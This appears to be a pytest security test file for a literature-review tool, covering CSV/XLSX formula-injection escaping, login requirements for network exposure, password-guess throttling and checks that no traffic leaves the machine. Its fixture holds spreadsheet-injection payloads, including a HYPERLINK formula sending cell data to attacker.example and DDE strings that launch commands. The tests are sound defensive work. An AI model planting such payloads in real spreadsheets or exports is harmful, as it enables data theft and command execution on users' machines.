"""Hostile input that would leak or run something: formulas in exported cells, a UI on the
network without a login, guessed passwords, traffic leaving the machine."""
from __future__ import annotations

import os
import subprocess
import sys
import time
from pathlib import Path

import pandas as pd
import pytest

import litlab
from conftest import ROOT, free_port
from test_scopus_csv import scopus_row, write_csv

FORMULAS = {
    "title": '=HYPERLINK("http://attacker.example/?d="&A1,"Click")',
    "author": "+cmd|' /C calc'!A0",
    "keyword": "-2+3+cmd|' /C calc'!A0",
    "abstract": "@SUM(1+1)*cmd|' /C calc'!A0",
    "tab": "\t=1+1 starts with a tab",
    "quote": "'Tis a title that starts with an apostrophe",
}


@pytest.fixture
def hostile_corpus(tmp_path):
    rows = [scopus_row(1, Title=FORMULAS["title"], Authors=FORMULAS["author"],
                       **{"Author Keywords": FORMULAS["keyword"],
                          "Abstract": FORMULAS["abstract"]}),
            scopus_row(2, Title=FORMULAS["tab"]), scopus_row(3, Title=FORMULAS["quote"])]
    with litlab.open(tmp_path / "hostile.duckdb") as corpus:
        corpus.ingest([write_csv(tmp_path / "scopus.csv", rows)])
        yield corpus


def test_exported_csv_cells_never_run_as_formulas_and_read_back_the_same(hostile_corpus,
                                                                        tmp_path):
    out = hostile_corpus.export(tmp_path / "labels.csv")
    table = pd.read_csv(out["path"], dtype=str, keep_default_na=False)
    for cell in table.to_numpy().ravel():
        assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), cell
    assert table.title.iloc[0] == "'" + FORMULAS["title"]
    assert table.title.iloc[2] == "''Tis a title that starts with an apostrophe"
    # litlab's own importer undoes exactly that: the round trip is lossless.
    with litlab.open(tmp_path / "again.duckdb") as again:
        again.ingest([out["path"]])
        titles = set(again.records().title)
    assert titles == set(hostile_corpus.records().title)
    assert FORMULAS["title"] in titles and FORMULAS["quote"] in titles


def test_exported_xlsx_cells_are_strings(hostile_corpus, tmp_path):
    from openpyxl import load_workbook

    out = hostile_corpus.export(tmp_path / "labels.xlsx")
    sheet = load_workbook(out["path"])["labels"]
    cells = [c for row in sheet.iter_rows() for c in row if isinstance(c.value, str)]
    assert not [c.coordinate for c in cells if c.data_type == "f"]
    title = next(c for c in cells if c.value == FORMULAS["title"])
    assert title.data_type == "s"


def test_search_csv_output_is_escaped_too(hostile_corpus):
    from test_cli import litlab as run

    hostile_corpus.close()
    done = run("search", "calc", "--mode", "bm25", "--csv", "--db", hostile_corpus.path)
    assert done.returncode == 0, done.stderr
    assert "'=HYPERLINK" in done.stdout and "\n=HYPERLINK" not in done.stdout


def _ui(*args, env=None, timeout=60):
    return subprocess.Popen([sys.executable, "-m", "litlab", "ui", *map(str, args)],
                            stdout=subprocess.PIPE, stderr=subprocess.PIPE, text=True,
                            env={**os.environ, **(env or {})})


def test_the_ui_beyond_loopback_needs_a_login_or_says_it_has_none(tmp_path):
    db = tmp_path / "ui.duckdb"
    refused = _ui("--host", "0.0.0.0", "--db", db)
    out, err = refused.communicate(timeout=120)
    assert refused.returncode == 2
    assert err.strip() == ("error: --host 0.0.0.0 serves the corpus to your network: give "
                           "--auth user:password (a login), or --no-auth to serve it to anyone "
                           "who can reach this machine")
    assert not db.exists()  # refused before anything was created
    port = _ui("--port", "70000", "--db", db)
    assert port.wait(timeout=120) == 2 and "--port 70000 is not a TCP port" in port.stderr.read()
    free = free_port()
    open_ = _ui("--host", "0.0.0.0", "--no-auth", "--port", free, "--db", db)
    try:
        banner = [open_.stdout.readline() for _ in range(2)]
    finally:
        open_.terminate()
        open_.wait(timeout=60)
    assert banner[0].startswith(f"litlab UI serving {db} at http://0.0.0.0:{free}/ (every "
                                "machine that can reach this one")
    assert banner[1].startswith("warning: no login (--no-auth)")


def test_guessed_passwords_are_slowed_down(tmp_path):
    import httpx

    from litlab.ui.server import launch

    with litlab.open(tmp_path / "login.duckdb") as corpus:
        ctx, app, url = launch(corpus, port=free_port(), auth="ana:secret", quiet=True)
        try:
            def attempt(password):
                started = time.perf_counter()
                response = httpx.post(f"{url}login", data={"username": "ana",
                                                           "password": password}, timeout=30)
                return response.status_code, time.perf_counter() - started

            assert attempt("guess1")[0] == 400
            assert attempt("guess2") >= (400, 0.9)  # waited 1 s
            status, waited = attempt("guess3")
            assert status == 400 and waited >= 1.9  # then 2 s
            status, waited = attempt("secret")
            assert status == 200 and waited >= 3.9  # the right one waits too, then resets
            assert attempt("secret") == (200, pytest.approx(0, abs=0.9))
        finally:
            ctx.jobs.shutdown()
            app.close()


@pytest.mark.slow
def test_nothing_leaves_the_machine_while_the_ui_serves_a_page(tmp_path):
    """The server process looks up no outside name and connects nowhere but loopback, and
    the page the browser loads asks for nothing but this server."""
    from test_ui import CHROMIUM, CHROMIUM_ARGS

    from conftest import DEMO

    if not Path(CHROMIUM).exists():
        pytest.fail(f"no Chromium at {CHROMIUM}: `apt-get install -y chromium` (.ci/run does)")
    db = tmp_path / "quiet.duckdb"
    with litlab.open(db) as corpus:
        corpus.ingest([DEMO / "scopus_demo.csv"])
    log, port = tmp_path / "net.log", free_port()
    server = _ui("--port", port, "--db", db, env={
        "PYTHONPATH": os.pathsep.join([str(ROOT / "tests" / "netlog"), str(ROOT)]),
        "LITLAB_NETLOG": str(log)})
    requested = []
    try:
        assert "litlab UI serving" in server.stdout.readline()
        from playwright.sync_api import sync_playwright

        with sync_playwright() as p:
            browser = p.chromium.launch(executable_path=CHROMIUM, headless=True,
                                        args=CHROMIUM_ARGS)
            page = browser.new_page()
            page.on("request", lambda r: requested.append(r.url))
            page.goto(f"http://127.0.0.1:{port}/")
            page.locator("#ll-header").wait_for(timeout=120_000)
            page.get_by_role("tab", name="Search").click()
            page.wait_for_timeout(2000)
            browser.close()
    finally:
        server.terminate()
        server.wait(timeout=60)
    outside = [u for u in requested if not u.startswith((f"http://127.0.0.1:{port}/", "data:",
                                                          "blob:"))]
    assert requested and not outside, outside
    seen = log.read_text().splitlines() if log.exists() else []
    loopback = ("127.0.0.1", "localhost", "::1", "0.0.0.0")
    print(f"\n{len(requested)} requests from the page; the server process noted: {sorted(set(seen))}")
    assert not [line for line in seen if line.split("\t")[1] not in loopback], seen
